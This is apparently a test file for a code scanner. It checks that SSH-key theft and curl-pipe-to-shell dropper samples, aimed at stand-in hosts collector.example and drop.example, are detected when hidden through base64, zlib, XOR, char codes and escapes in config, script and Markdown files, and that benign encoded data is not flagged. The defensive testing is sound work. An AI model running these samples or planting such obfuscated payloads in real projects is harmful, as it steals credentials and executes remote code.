import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/finding.ts';
import type { Report } from '../../src/model/report.ts';
import { sbx } from '../support/sbx.ts';
import { writeTree } from '../support/temporary.ts';

const THIEF =
  'import pathlib, urllib.request\n' +
  'key = pathlib.Path("~/.ssh/id_rsa").expanduser().read_bytes()\n' +
  'urllib.request.urlopen("https://collector.example/", data=key)\n';
const DROPPER = "require('child_process').exec('curl https://drop.example/i.sh | sh')";

const base64 = (data: string | Uint8Array) => Buffer.from(data).toString('base64');
const numbers = (text: string) => [...Buffer.from(text)].join(', ');
const keyed = base64(Buffer.from(THIEF).map((byte, at) => byte ^ 'k3y'.charCodeAt(at % 3)));
const escaped = (text: string) =>
  [...Buffer.from(text)].map((code) => `\\x${code.toString(16).padStart(2, '0')}`).join('');

/** File, the layer that it hides the theft or the dropper in, and a rule that must see it there. */
const ATTACKS: readonly (readonly [string, string, string, string])[] = [
  ['run.py', `x = 1\n\nPAYLOAD = '${base64(THIEF)}'\n`, 'run.py@3:base64', 'secret-file-to-network'],
  [
    'zlib.py',
    `import base64, zlib\nexec(zlib.decompress(base64.b64decode('${base64(deflateSync(THIEF))}')))\n`,
    'zlib.py@2:base64:zlib',
    'secret-file-to-network',
  ],
  [
    'twice.py',
    `P = '${base64(`import base64\nQ = '${base64(THIEF)}'\nexec(base64.b64decode(Q))\n`)}'\n`,
    'twice.py@1:base64@2:base64',
    'secret-file-to-network',
  ],
  [
    'key.py',
    `K = b'k3y'\nD = '${keyed}'\nrun(bytes(c ^ K[i % 3] for i, c in enumerate(decode(D))))\n`,
    'key.py@2:base64:xor',
    'secret-file-to-network',
  ],
  [
    'split.py',
    `P = (\n    '${base64(THIEF).replace(/.{60}/g, "$&'\n    '")}'\n)\n`,
    'split.py@2:base64',
    'secret-file-to-network',
  ],
  ['codes.js', `const a = [${numbers(DROPPER)}];\n`, 'codes.js@1:charcodes', 'downloaded-script-piped'],
  ['spelled.js', `const a = '${escaped(DROPPER)}';\n`, 'spelled.js@1:escapes', 'downloaded-script-piped'],
  [
    'run.sh',
    `#!/bin/sh\ndata=${base64(DROPPER)}\nrun "$data"\n`,
    'run.sh@2:base64',
    'downloaded-script-piped',
  ],
  ['values.yaml', `a:\n  b: ${base64(THIEF)}\n`, 'values.yaml@2:base64', 'secret-file-to-network'],
  ['values.json', `{"a":\n ["${base64(THIEF)}"]}\n`, 'values.json@2:base64', 'secret-file-to-network'],
  ['values.toml', `[a]\nb = "${base64(THIEF)}"\n`, 'values.toml@2:base64', 'secret-file-to-network'],
  ['NOTES.md', `# Notes\n\n<!-- ${base64(THIEF)} -->\n`, 'NOTES.md@3:base64', 'secret-file-to-network'],
  [
    'notes.txt',
    `Notes\n\n${base64(THIEF).replace(/.{64}/g, '$&\n')}\n`,
    'notes.txt@3:base64',
    'secret-file-to-network',
  ],
];

/** Data that is encoded with good reason. */
const HONEST: Readonly<Record<string, string>> = {
  'picture.py': `LOGO = '${base64(Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(900, 7)]))}'\n`,
  'token.js': `const head = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9';\n`,
  'map.js': `run();\n//# sourceMappingURL=data:application/json;base64,${base64(`{"version":3,"sources":["a.js"],"sourcesContent":["${DROPPER}"],"mappings":"AAAA"}`)}\n`,
  'RECORD.txt': `a.py,sha256=${base64(Uint8Array.from({ length: 32 }, (_, at) => at * 37 + 5))},120\n`,
  'table.py': `TABLE = [${Array.from({ length: 300 }, (_, at) => (at * 31) % 256).join(', ')}]\n`,
  'message.py': `import base64\nprint(base64.b64decode('${base64('Hello, World!')}'))\n`,
  'descriptor.py': `D = b'${escaped('\n\x0bgreet.proto\x12\x05hello"\x1c\n\x08Greeting')}'\n`,
  'SKILL.md': `---\nname: pictures\ndescription: Draws pictures.\n---\n\n![logo](data:image/png;base64,${base64(Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(300, 9)]))})\n`,
  'lock.json': `{"integrity": "sha512-${base64(Uint8Array.from({ length: 64 }, (_, at) => at * 41 + 3))}"}\n`,
};

let scanned: Promise<Report> | undefined;

/** One scan of all of them, made by the first test that asks. */
function report(): Promise<Report> {
  scanned ??= (async () => {
    const folder = writeTree({
      ...HONEST,
      ...Object.fromEntries(ATTACKS.map(([path, text]) => [path, text])),
    });
    return JSON.parse((await sbx(['scan', folder, '--format', 'json'])).stdout) as Report;
  })();
  return scanned;
}

async function findingsIn(path: string): Promise<readonly Finding[]> {
  return (await report()).findings.filter(({ location }) => location.path === path);
}

describe('hidden texts', () => {
  it.each(ATTACKS)('%s is seen through', async (path, _text, layer, rule) => {
    const found = (await findingsIn(path)).filter(
      ({ ruleId, location }) => ruleId === rule && location.layer === layer,
    );
    expect(found).toHaveLength(1);
    expect(found[0]?.location.startLine).toBe(Number(/@(\d+)/.exec(layer)?.[1]));
  });

  it.each(Object.keys(HONEST))('%s is quiet', async (path) => {
    expect(await findingsIn(path)).toEqual([]);
  });
});
